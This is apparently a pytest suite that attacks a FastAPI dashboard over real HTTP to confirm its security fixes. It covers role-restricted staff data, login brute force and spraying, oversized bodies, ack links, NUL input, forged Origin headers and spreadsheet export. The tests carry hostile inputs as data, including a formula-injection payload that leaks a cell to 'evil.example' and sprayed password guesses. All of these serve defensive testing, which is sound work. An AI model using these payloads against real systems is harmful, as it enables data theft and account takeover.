"""The API and dashboard probed as an attacker on the network would: uvicorn serving the real app over real
HTTP (cookies, server-sent events, X-Forwarded-For from the trusted local proxy), on SQLite and PostgreSQL.
One test per finding of issue 18; each failed before its fix."""

from __future__ import annotations

import asyncio
import csv
import json
import logging
import os
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
import uvicorn
from fastapi import FastAPI
from openpyxl import load_workbook

from broker.alerts.routing import AlertsConfig, sign_ack
from broker.api import login
from broker.api.app import create_app
from broker.api.auth import add_user, disable_user, set_password
from broker.api.config import ApiConfig
from broker.api.throttle import LoginThrottle, Refused, source_key
from broker.attendance.roster import StaffMember, import_roster
from broker.config import ConsumerConfig, StoreConfig
from broker.reports.sheets import Col, Sheet, write_csv
from broker.sites import SiteConfig, Sites
from broker.store.commands import audit
from broker.store.db import Store
from broker.store.schema import audit_log, devices, events, incidents
from config.base import ConfigError
from protocol.ids import uuid7
from runtime.clock import HALL_ZONE
from tests.support.apps import free_port
from tests.support.hall import ManualClock, wait_until

pytestmark = pytest.mark.timeout(120)

PASSWORD = "correct horse battery"
ACK_SECRET = b"ack-links-secret-of-32-bytes-or-more"
MAX_FAILURES = 3
SOURCE_MAX = 8


@dataclass
class Served:
    url: str
    app: FastAPI
    store: Store
    clock: ManualClock

    def client(self, source: str | None = None) -> httpx.AsyncClient:
        """A client; ``source``: the address the local TLS proxy says it forwarded for."""
        headers = {"X-Forwarded-For": source} if source else {}
        return httpx.AsyncClient(base_url=self.url, headers=headers, timeout=30)

    async def login(self, client: httpx.AsyncClient, name: str, password: str = PASSWORD) -> httpx.Response:
        return await client.post("/api/login", json={"username": name, "password": password})

    async def audit(self, action: str) -> list[Any]:
        return await self.store.fetch(sa.select(audit_log).where(audit_log.c.action == action).order_by(audit_log.c.id))


def api_config(tmp_path: Path, secret: bytes = ACK_SECRET, **kw: Any) -> ApiConfig:
    secret_file = tmp_path / "ack-secret"
    secret_file.write_bytes(secret)
    centre = ConsumerConfig(
        instance="attack",
        store=StoreConfig(url="sqlite+aiosqlite:///unused"),
        alerts=AlertsConfig(ack_base_url="https://hallfleet.test/ack", ack_secret_file=secret_file),
    )
    base: dict[str, Any] = {
        "centre": centre,
        "cookie_secure": False,
        "stream_poll_s": 0.2,
        "login_max_failures": MAX_FAILURES,
        "login_source_max_failures": SOURCE_MAX,
        "streams_per_user": 2,
    }
    return ApiConfig(**(base | kw))


@pytest.fixture
async def served(store_url: str, tmp_path: Path) -> AsyncIterator[Served]:
    store = await Store.open(store_url)
    now = datetime.now(UTC)
    for name, role, sites in (
        ("admin", "it_admin", ("*",)),
        ("tech.qp", "technician", ("qp",)),
        ("wm.qp", "window_management", ("qp",)),
        ("viewer", "readonly", ("*",)),
    ):
        await add_user(store, name, PASSWORD, role, sites, now)
    clock = ManualClock(now)
    app = create_app(api_config(tmp_path), store, None, clock)
    port = free_port()
    # As `hallfleet api` runs it: proxy headers trusted from the local TLS proxy only.
    uv = uvicorn.Server(
        uvicorn.Config(
            app,
            host="127.0.0.1",
            port=port,
            log_level="warning",
            lifespan="off",
            proxy_headers=True,
            forwarded_allow_ips="127.0.0.1",
            timeout_graceful_shutdown=2,
        )
    )
    task = asyncio.create_task(uv.serve())
    await wait_until(lambda: _started(uv), 10, "uvicorn to listen")
    try:
        yield Served(f"http://127.0.0.1:{port}", app, store, clock)
    finally:
        uv.should_exit = True
        await asyncio.wait_for(task, 15)
        await store.close()


async def _started(uv: uvicorn.Server) -> bool:
    return bool(uv.started)


async def _bearer(s: Served, c: httpx.AsyncClient, name: str) -> dict[str, str]:
    r = await s.login(c, name)
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['token']}"}


async def _incident(s: Served, site: str = "qp", device: str = "kiosk-1", state: str = "open") -> str:
    incident_id = uuid7()
    now = s.clock.now()
    async with s.store.engine.begin() as conn:
        await conn.execute(
            incidents.insert().values(
                id=incident_id, key=f"{site}/{device}", site=site, device=device, kind="offline",
                severity="critical", hours24=True, state=state, detected_at=now, last_signal_at=now,
                closed_at=now if state == "closed" else None,
            )
        )  # fmt: skip
    return incident_id


# -- 1. personal data by role ----------------------------------------------------------------------------------
async def test_a_technician_reads_device_audit_rows_but_no_leave_reason_roster_change_or_rating_review(
    served: Served,
) -> None:
    now = served.clock.now()
    async with served.store.engine.begin() as conn:
        for action, target, reason in (
            ("attendance.exception.file", "qp/S0042", "住院治疗（病假）"),
            ("staff.update", "qp/S0042", ""),
            ("rating.review", "qp/pad-3", "窗口人员代评"),
            ("gallery.enrol", "qp/S0042", ""),
            ("incident.ack", "qp/kiosk-1", ""),
        ):
            await audit(conn, at=now, actor="wm.qp", action=action, target=target, reason=reason)
    async with served.client() as c:
        tech = await _bearer(served, c, "tech.qp")
        seen = (await c.get("/api/audit?size=500", headers=tech)).json()["items"]
        assert [a["action"] for a in seen] == ["incident.ack"], "a technician reads device rows only"
        assert "住院" not in (await c.get("/api/audit?device=qp/S0042", headers=tech)).text
        assert not await served.audit("attendance.read"), "a technician's audit page shows no staff data"
        admin = await _bearer(served, c, "admin")
        everything = {a["action"] for a in (await c.get("/api/audit?size=500", headers=admin)).json()["items"]}
        assert {"attendance.exception.file", "staff.update", "rating.review", "incident.ack"} <= everything
    reads = [(a.actor, a.target, json.loads(a.detail)["what"]) for a in await served.audit("attendance.read")]
    assert reads == [("admin", "*/*", "audit log")], "the IT section reading leave reasons is an audited read"
    assert [a.actor for a in await served.audit("ratings.read")] == ["admin"]


async def test_a_device_page_shows_the_staff_data_in_its_events_only_to_roles_that_read_it(served: Served) -> None:
    """A technician who gets 403 on attendance must not read who clocked in when from the terminal's own page."""
    now = served.clock.now()
    payloads = [
        ("attendance.punch", {"staff_id": "S0042", "method": "face"}),
        ("rating.submitted", {"window": "W1", "staff_id": "S0077", "level": 1}),
        ("patrol.scan", {"officer": "S0099", "finding": "ok"}),
        ("device.health", {"cpu_temp_c": 51.5}),
    ]
    async with served.store.engine.begin() as conn:
        await conn.execute(devices.insert().values(key="qp/att-1", site="qp", device="att-1", role="attendance",
                                                   presence="online", presence_since=now, first_seen=now))  # fmt: skip
        for seq, (kind, data) in enumerate(payloads, 1):
            await conn.execute(
                events.insert().values(site="qp", device="att-1", id=uuid7(), type=kind, seq=seq, boot_id="b", ts=now,
                                       clock_synced=True, replayed=False, received_at=now, data=json.dumps(data))
            )  # fmt: skip
    async with served.client() as c:
        for name, shown in (("tech.qp", False), ("viewer", False), ("wm.qp", True), ("admin", True)):
            page = (await c.get("/devices/qp/att-1", headers=await _bearer(served, c, name))).text
            assert "51.5" in page, name
            assert all((staff in page) == shown for staff in ("S0042", "S0077", "S0099")), name
    reads = [
        (a.actor, a.action, a.target)
        for a in await served.audit("attendance.read") + await served.audit("ratings.read")
    ]
    assert sorted(reads) == sorted(
        (name, f"{cls}.read", "qp/*") for name in ("wm.qp", "admin") for cls in ("attendance", "ratings")
    ), "showing them is an audited read of staff data"


# -- 2. login abuse --------------------------------------------------------------------------------------------
async def test_parallel_guesses_are_counted_before_verification_so_only_the_limit_gets_through(served: Served) -> None:
    async with served.client("203.0.113.7") as c:
        answers = await asyncio.gather(*[served.login(c, "viewer", f"guess number {i}") for i in range(12)])
    codes = sorted(r.status_code for r in answers)
    assert codes.count(401) == MAX_FAILURES and codes.count(429) == 12 - MAX_FAILURES, codes
    assert all(r.headers["retry-after"].isdigit() for r in answers if r.status_code == 429)


async def test_one_address_spraying_many_names_is_stopped_and_a_stranger_cannot_lock_out_a_known_user(
    served: Served,
) -> None:
    async with served.client("198.51.100.1") as home:
        assert (await served.login(home, "admin")).status_code == 200  # admin's workstation is now known
    async with served.client("203.0.113.9") as sprayer:
        codes = [(await served.login(sprayer, f"staff{i}", "Summer2026!")).status_code for i in range(SOURCE_MAX + 3)]
    assert codes[:SOURCE_MAX] == [401] * SOURCE_MAX and set(codes[SOURCE_MAX:]) == {429}, codes
    async with served.client("203.0.113.10") as stranger:
        for _ in range(MAX_FAILURES):
            assert (await served.login(stranger, "admin", "wrong password!")).status_code == 401
        assert (await served.login(stranger, "admin")).status_code == 429, "locked for strangers, even right"
    async with served.client("198.51.100.1") as home:
        assert (await served.login(home, "admin")).status_code == 200, "the known workstation still logs in"


def test_the_failure_tables_stay_bounded_and_never_forget_a_locked_name() -> None:
    t = [0.0]
    throttle = LoginThrottle(2, 300, 10**9, capacity=100, clock=lambda: t[0])
    for _ in range(2):
        throttle.begin("wang.li", "203.0.113.1")
    for i in range(10_000):  # a flood of other names from other addresses
        throttle.begin(f"n{i}", f"10.0.{i // 250}.{i % 250}")
    assert len(throttle.by_name) <= 100 and len(throttle.by_source) <= 100
    assert isinstance(throttle.begin("wang.li", "203.0.113.2"), Refused), "still locked"
    t[0] = 301.0
    assert not isinstance(throttle.begin("fresh", "203.0.113.3"), Refused), "expired entries make room"


async def test_twenty_parallel_guesses_from_twenty_addresses_verify_at_most_the_limit(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    verified = []
    check = login.check_login

    async def counted(*args: Any) -> Any:
        verified.append(args[1])
        return await check(*args)

    monkeypatch.setattr(login, "check_login", counted)
    clients = [served.client(f"203.0.113.{i}") for i in range(20)]
    try:
        answers = await asyncio.gather(*[served.login(c, "viewer", f"guess {i}") for i, c in enumerate(clients)])
    finally:
        await asyncio.gather(*[c.aclose() for c in clients])
    codes = [r.status_code for r in answers]
    assert len(verified) == codes.count(401) == MAX_FAILURES and codes.count(429) == 20 - MAX_FAILURES, codes


def test_a_full_failure_table_refuses_strangers_instead_of_leaving_them_uncounted() -> None:
    t = [0.0]
    throttle = LoginThrottle(3, 300, 10**9, capacity=50, clock=lambda: t[0])
    home = throttle.begin("admin", "198.51.100.1")
    assert not isinstance(home, Refused)
    throttle.succeeded(home)  # admin's workstation is known
    for i in range(50):  # a flood of other names from other addresses fills every table with live entries
        assert not isinstance(throttle.begin(f"n{i}", f"10.0.0.{i}"), Refused)
    guesses = [throttle.begin("admin", f"203.0.113.{i}") for i in range(20)]
    assert all(isinstance(g, Refused) and g.why == "busy" and g.retry_after_s > 0 for g in guesses), guesses
    assert throttle.refused_full == 20
    assert not isinstance(throttle.begin("admin", "198.51.100.1"), Refused), "the known workstation still tries"
    t[0] = 301.0
    assert not isinstance(throttle.begin("admin", "203.0.113.99"), Refused), "room again once entries expire"


def test_an_ipv6_source_is_counted_per_64_not_per_address() -> None:
    throttle = LoginThrottle(100, 300, 3)
    verdicts = [throttle.begin(f"n{i}", f"2001:db8:1:2::{i + 1:x}") for i in range(5)]
    assert [isinstance(v, Refused) for v in verdicts] == [False] * 3 + [True] * 2
    assert not isinstance(throttle.begin("n9", "2001:db8:1:3::1"), Refused), "the next /64 is another source"
    assert not isinstance(throttle.begin("n9", "::ffff:192.0.2.1"), Refused)
    assert source_key("::ffff:192.0.2.1") == "192.0.2.1" and source_key("2001:db8:1:2:a:b:c:d") == "2001:db8:1:2::/64"


# -- 3. unauthenticated memory growth --------------------------------------------------------------------------
def _rss_kib() -> int:
    return int(Path(f"/proc/{os.getpid()}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") // 1024


async def test_a_20_mb_username_is_refused_before_parsing_and_grows_nothing(served: Served) -> None:
    big = "u" * (20 * 1024 * 1024)
    # Built before measuring: client and server share this process, and the client's own copies are not the
    # server's growth (built inside the loop, they made the bound below flaky on a busy machine).
    form = f"username={big}&password=x".encode()
    body = json.dumps({"username": big, "password": "x"}).encode()
    json_type = {"Content-Type": "application/json"}
    before = _rss_kib()
    async with served.client() as c:
        for _ in range(3):
            r = await c.post("/login", content=form)
            assert r.status_code == 413
            r = await c.post("/api/login", content=body, headers=json_type)
            assert r.status_code == 413

        async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: the bound holds while streaming
            yield b"username="
            for _ in range(40):
                yield b"u" * 65536

        assert (await c.post("/login", content=chunks())).status_code == 413
        long_field = await c.post("/login", content="username=" + "u" * 5000 + "&password=x")
        assert long_field.status_code == 422
    assert len(served.app.state.throttle.by_name) == 0, "nothing of it was kept"
    # 120 MB of bodies were sent; the server held none of them.
    assert _rss_kib() - before < 40 * 1024


# -- 4. live streams and their session -------------------------------------------------------------------------
async def _stream_ends(c: httpx.AsyncClient, headers: dict[str, str], act: Any) -> list[str]:
    lines: list[str] = []
    async with c.stream("GET", "/events/stream", headers=headers) as r:
        assert r.status_code == 200
        assert r.headers["cache-control"] == "no-store"
        it = r.aiter_lines()
        await act()

        async def drain() -> None:
            async for line in it:
                lines.append(line)

        await asyncio.wait_for(drain(), 10)  # the server ends it: no timeout
    return lines


@pytest.mark.parametrize("change", ["logout", "disable", "password", "idle"])
async def test_the_live_stream_ends_when_its_session_does(served: Served, change: str) -> None:
    await _incident(served)
    async with served.client() as c, served.client() as other:
        h = await _bearer(served, c, "tech.qp")

        async def act() -> None:
            await asyncio.sleep(0.5)  # a few rounds pushed first
            now = served.clock.now()
            if change == "logout":
                assert (await other.post("/api/logout", headers=h)).status_code == 204
            elif change == "disable":
                await disable_user(served.store, "tech.qp", now, by="admin")
            elif change == "password":
                await set_password(served.store, "tech.qp", "another long passphrase", now, by="admin")
            else:  # a page left open is not use: the stream ends with the idle timeout (30 min)
                served.clock.advance(minutes=31)

        lines = await _stream_ends(c, h, act)
    assert "event: incident" in lines and lines[-2:] == ["data: {}", ""] and "event: end" in lines


async def test_a_user_holds_a_bounded_number_of_live_streams(served: Served) -> None:
    async with served.client() as c:
        h = await _bearer(served, c, "viewer")
        async with (
            c.stream("GET", "/events/stream", headers=h) as one,
            c.stream("GET", "/events/stream", headers=h) as two,
        ):
            assert one.status_code == two.status_code == 200
            third = await c.get("/events/stream", headers=h)
            assert third.status_code == 429 and "live streams" in third.json()["detail"]
        await wait_until(lambda: _async(not served.app.state.streams), 10, "the slots given back")
        async with c.stream("GET", "/events/stream", headers=h) as again:
            assert again.status_code == 200


async def _async(value: Any) -> Any:
    return value


# -- 5. acknowledgement links ----------------------------------------------------------------------------------
async def test_ack_links_expire_refuse_closed_incidents_and_stay_out_of_the_access_log(
    served: Served, caplog: pytest.LogCaptureFixture
) -> None:
    open_id, closed_id = await _incident(served), await _incident(served, device="kiosk-2", state="closed")
    now = served.clock.now()
    expired = sign_ack(ACK_SECRET, open_id, now - timedelta(seconds=1))
    closed = sign_ack(ACK_SECRET, closed_id, now + timedelta(hours=1))
    good = sign_ack(ACK_SECRET, open_id, now + timedelta(hours=1))
    caplog.set_level(logging.INFO, logger="uvicorn.access")
    async with served.client() as c:
        for method in ("GET", "POST"):
            r = await c.request(method, f"/ack/{expired}")
            assert r.status_code == 410 and 'id="ack-expired"' in r.text and "ack-submit" not in r.text
            r = await c.request(method, f"/ack/{closed}")
            assert r.status_code == 409 and 'id="ack-closed"' in r.text and "ack-submit" not in r.text
        assert (await c.post(f"/ack/{good}")).status_code == 200
        assert (await c.get("/ack/" + "é" * 20 + ".x.y")).status_code == 404, "any characters: not valid, no 500"
    rows = await served.store.fetch(sa.select(incidents.c.id, incidents.c.acked_by))
    assert {r.id: r.acked_by for r in rows} == {open_id: "ack-link", closed_id: ""}
    logged = [r.getMessage() for r in caplog.records if r.name == "uvicorn.access"]
    assert any("/ack/[token]" in m for m in logged), logged
    assert not any(good.split(".")[-1] in m or expired.split(".")[-1] in m for m in logged)


async def test_a_short_ack_secret_stops_the_start_with_one_line_naming_the_setting(
    sqlite_url: str, tmp_path: Path
) -> None:
    store = await Store.open(sqlite_url)
    try:
        with pytest.raises(ConfigError) as raised:
            create_app(api_config(tmp_path, secret=b"x"), store, None)
    finally:
        await store.close()
    message = str(raised.value)
    assert "ack_secret_file" in message and "32" in message and "\n" not in message


# -- 6. no 500s for bad input ----------------------------------------------------------------------------------
async def test_out_of_range_days_pages_and_months_are_a_422_naming_the_parameter(served: Served) -> None:
    async with served.client() as c:
        h = await _bearer(served, c, "admin")
        for path, field in (
            ("/api/attendance/qp/0001-01-01", "day"),
            ("/api/attendance/qp/9999-12-31", "day"),
            ("/api/ratings?day=9999-12-31", "day"),
            ("/api/ratings?day=0001-01-01", "day"),
            (f"/api/devices?page={2**63 - 1}", "page"),
            (f"/api/incidents?page={2**63}", "page"),
            (f"/api/audit?page={2**62}", "page"),
            ("/api/reports/attendance/qp/0000-01.xlsx", "month"),
            ("/api/reports/attendance/qp/9999-12.xlsx", "month"),
            ("/attendance?site=qp&day=9999-12-31", "day"),
            ("/ratings?site=qp&day=0001-01-01", "day"),
            ("/api/incidents/%00", "incident_id"),
            ("/api/audit?device=qp/%00", "device"),
        ):
            r = await c.get(path, headers=h)
            assert r.status_code == 422 and field in r.json()["fields"], (path, r.status_code, r.text[:200])


async def test_a_formula_in_a_staff_name_reaches_the_downloaded_workbook_as_text(
    served: Served, tmp_path: Path
) -> None:
    """A roster comes from HR's spreadsheet and a queue window's name from the queue system: text, never code."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"王五")'
    today = served.clock.now().astimezone(HALL_ZONE).date()
    member = StaffMember("qp", "S9", evil, "=1+1", "W1", "A", today.replace(day=1))
    served.app.state.sites = Sites({"qp": SiteConfig(go_live=today.replace(day=1))})  # judged from the 1st
    await import_roster(served.store, [member], by="admin", at=served.clock.now())
    async with served.client() as c:
        h = await _bearer(served, c, "admin")
        r = await c.get(f"/api/reports/attendance/qp/{today:%Y-%m}.xlsx", headers=h)
    assert r.status_code == 200
    (tmp_path / "report.xlsx").write_bytes(r.content)
    cells = [cell for ws in load_workbook(tmp_path / "report.xlsx") for row in ws.iter_rows() for cell in row]
    assert evil in [cell.value for cell in cells], "the name is in the workbook, as written"
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell is a formula"


def test_the_csv_writer_quotes_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
    rows = (('=HYPERLINK("http://evil.example")', -2), ("+1", 3), ("@SUM(A1)", 4), ("-", 5), ("平常", 6))
    sheet = Sheet("s", "=t", (Col("窗口"), Col("n", "int")), rows)
    write_csv(tmp_path / "r.csv", [sheet])
    lines = list(csv.reader((tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert lines[0] == ["'=t"] and lines[2:] == [
        ['\'=HYPERLINK("http://evil.example")', "-2"],
        ["'+1", "3"],
        ["'@SUM(A1)", "4"],
        ["-", "5"],
        ["平常", "6"],
    ]


async def test_a_nul_in_a_typed_text_is_a_422_naming_the_field_not_a_500(served: Served) -> None:
    """PostgreSQL refuses NUL in text: a note, a reason or a reply that carried one failed in the store (a 500)."""
    incident = await _incident(served)
    flag = "0190a0b0-0000-7000-8000-000000000002"
    async with served.client() as c:
        h = await _bearer(served, c, "admin")
        for url, body, field in (
            (f"/api/incidents/{incident}/dispatch", {"state": "open", "note": "a\x00b"}, "note"),
            ("/api/commands", {"device": "qp/kiosk-1", "name": "diagnose", "reason": "x\x00"}, "reason"),
            (
                "/api/commands",
                {"device": "qp/kiosk-1", "name": "diagnose", "reason": "ok", "args": {"a\x00": 1}},
                "args",
            ),
            (f"/api/ratings/followups/{flag}/reply", {"text": "\x00"}, "text"),
            (f"/api/ratings/followups/{flag}/rectify", {"text": "done\x07"}, "text"),
            (f"/api/ratings/flags/{flag}/review", {"verdict": "proxy", "note": "\x00"}, "note"),
            (f"/api/attendance/clocking-flags/{flag}/review", {"verdict": "proxy", "note": "\x00"}, "note"),
        ):
            r = await c.post(url, json=body, headers=h)
            assert r.status_code == 422 and any(f.startswith(field) for f in r.json()["fields"]), (url, r.text[:200])
        form = {**h, "Content-Type": "application/x-www-form-urlencoded"}
        r = await c.post(f"/incidents/{incident}/dispatch", content="state=open&note=a%00b", headers=form)
        assert r.status_code == 422, r.text[:200]
        multi = await c.post(f"/api/incidents/{incident}/dispatch", json={"note": "line one\nline two\ttab"}, headers=h)
        assert multi.status_code == 200, "tab and line breaks are text"


# -- 7. what is audited ----------------------------------------------------------------------------------------
async def test_logins_failures_lockouts_and_reads_of_staff_data_are_audited_with_name_and_source(
    served: Served,
) -> None:
    async with served.client("192.0.2.44") as c:
        for _ in range(MAX_FAILURES):
            await served.login(c, "wm.qp", "not the password")
        assert (await served.login(c, "wm.qp")).status_code == 429
    async with served.client("192.0.2.45") as c:
        h = await _bearer(served, c, "admin")
        await c.get("/api/attendance/qp/2026-11-23", headers=h)
        await c.get("/api/reports/attendance/qp/2026-11.xlsx", headers=h)
        await c.get("/attendance?site=qp&day=2026-11-23", headers=h)
    failed = await served.audit("auth.failed")
    assert [(a.actor, a.target, a.detail) for a in failed] == [
        ("wm.qp", "user:wm.qp", '{"source": "192.0.2.44"}')
    ] * MAX_FAILURES
    locked = await served.audit("auth.locked")
    assert len(locked) == 1 and locked[0].actor == "wm.qp" and "192.0.2.44" in locked[0].detail
    logins = await served.audit("auth.login")
    assert [(a.actor, "192.0.2.45" in a.detail) for a in logins] == [("admin", True)]
    reads = await served.audit("attendance.read")
    assert [(a.actor, a.target) for a in reads] == [("admin", "qp/*")] * 2
    exports = await served.audit("attendance.export")
    assert len(exports) == 1 and "2026-11" in exports[0].detail and "192.0.2.45" in exports[0].detail


# -- 8. the smaller ones ---------------------------------------------------------------------------------------
async def test_login_and_logout_forms_refuse_another_sites_origin(served: Served) -> None:
    evil = {"Origin": "https://evil.example"}
    async with served.client() as c:
        r = await c.post("/login", content=f"username=admin&password={PASSWORD}", headers=evil)
        assert r.status_code == 403 and "hallfleet_session" not in r.headers.get("set-cookie", "")
        assert (
            await c.post("/api/login", json={"username": "admin", "password": PASSWORD}, headers=evil)
        ).status_code == 403
        ok = await c.post("/login", content=f"username=admin&password={PASSWORD}", headers={"Origin": served.url})
        assert ok.status_code == 303
        assert (await c.post("/logout", headers=evil)).status_code == 403
        assert (await c.get("/api/devices")).status_code == 200, "the forged logout ended nothing"


async def test_personal_pages_downloads_and_secrets_are_never_cached_and_docs_have_a_csp(served: Served) -> None:
    async with served.client() as c:
        h = await _bearer(served, c, "admin")
        for path in ("/api/attendance/qp/2026-11-23", "/api/reports/attendance/qp/2026-11.xlsx", "/attendance",
                     "/users", "/api/users", "/docs"):  # fmt: skip
            r = await c.get(path, headers=h)
            assert r.status_code == 200 and r.headers["cache-control"] == "no-store", path
        reset = await c.post("/api/users/viewer/password", headers=h)
        assert reset.json()["password"] and reset.headers["cache-control"] == "no-store"
        docs = await c.get("/docs", headers=h)
        csp = docs.headers["content-security-policy"]
        assert "script-src 'self' 'nonce-" in csp and "frame-ancestors 'none'" in csp
        nonce = csp.split("'nonce-", 1)[1].split("'", 1)[0]
        assert f'<script nonce="{nonce}">' in docs.text and "<script>" not in docs.text


async def test_another_sites_things_are_as_unknown_as_missing_ones(served: Served) -> None:
    wz = await _incident(served, site="wz")
    async with served.client() as c:
        tech = await _bearer(served, c, "tech.qp")
        other = await c.get(f"/api/incidents/{wz}", headers=tech)
        missing = await c.get(f"/api/incidents/{uuid7()}", headers=tech)
        assert other.status_code == missing.status_code == 404
        assert other.json()["detail"].startswith("no incident ") and missing.json()["detail"].startswith("no incident ")


async def test_a_session_unused_for_the_idle_timeout_ends(served: Served) -> None:
    async with served.client() as c:
        h = await _bearer(served, c, "viewer")
        served.clock.advance(minutes=20)
        assert (await c.get("/api/devices", headers=h)).status_code == 200, "use moves the idle deadline on"
        served.clock.advance(minutes=25)
        assert (await c.get("/api/devices", headers=h)).status_code == 200, "45 min in, 25 min idle"
        served.clock.advance(minutes=31)
        assert (await c.get("/api/devices", headers=h)).status_code == 401, "31 min idle"


@pytest.mark.parametrize(
    "password", ["1234567890", "aaaaaaaaaaaa", "abcabcabcabc", "Password2024!", "woaini1314520", "qwertyuiop1"]
)
async def test_trivially_weak_passwords_are_refused_with_the_rule_named(served: Served, password: str) -> None:
    async with served.client() as c:
        h = await _bearer(served, c, "admin")
        body = {"username": "new.one", "password": password, "role": "readonly", "sites": ["qp"]}
        r = await c.post("/api/users", json=body, headers=h)
        assert r.status_code == 422 and "password" in r.json()["detail"], r.text
        r = await c.post("/api/users/viewer/password", json={"password": password}, headers=h)
        assert r.status_code == 422


async def test_refused_logins_are_counted_on_metrics_by_why(sqlite_url: str, tmp_path: Path) -> None:
    """A flood that fills the failure tables is visible to the IT section's alerting, not only in the audit log."""
    store = await Store.open(sqlite_url)
    try:
        app = create_app(api_config(tmp_path), store, None)
        app.state.throttle = LoginThrottle(MAX_FAILURES, 300, SOURCE_MAX, capacity=1)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://h") as c:
            for name in ("a.one", "b.two", "b.two"):  # the second name finds the table full
                await c.post("/api/login", json={"username": name, "password": "wrong password"})
            text = (await c.get("/metrics")).text
    finally:
        await store.close()
    assert 'hallfleet_api_login_refused_total{why="busy"} 2.0' in text, text
    assert 'hallfleet_api_login_refused_total{why="name"} 0.0' in text


async def test_metrics_want_the_token_when_the_api_listens_beyond_loopback(sqlite_url: str, tmp_path: Path) -> None:
    store = await Store.open(sqlite_url)
    try:
        for listen, expected in (("0.0.0.0", 403), ("127.0.0.1", 200)):
            app = create_app(api_config(tmp_path, listen=listen), store, None)
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://h") as c:
                assert (await c.get("/metrics")).status_code == expected, listen
        token = tmp_path / "metrics-token"
        token.write_text("a-metrics-token-of-some-length")
        app = create_app(api_config(tmp_path, listen="0.0.0.0", metrics_token_file=token), store, None)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://h") as c:
            r = await c.get("/metrics", headers={"Authorization": "Bearer a-metrics-token-of-some-length"})
            assert r.status_code == 200
    finally:
        await store.close()
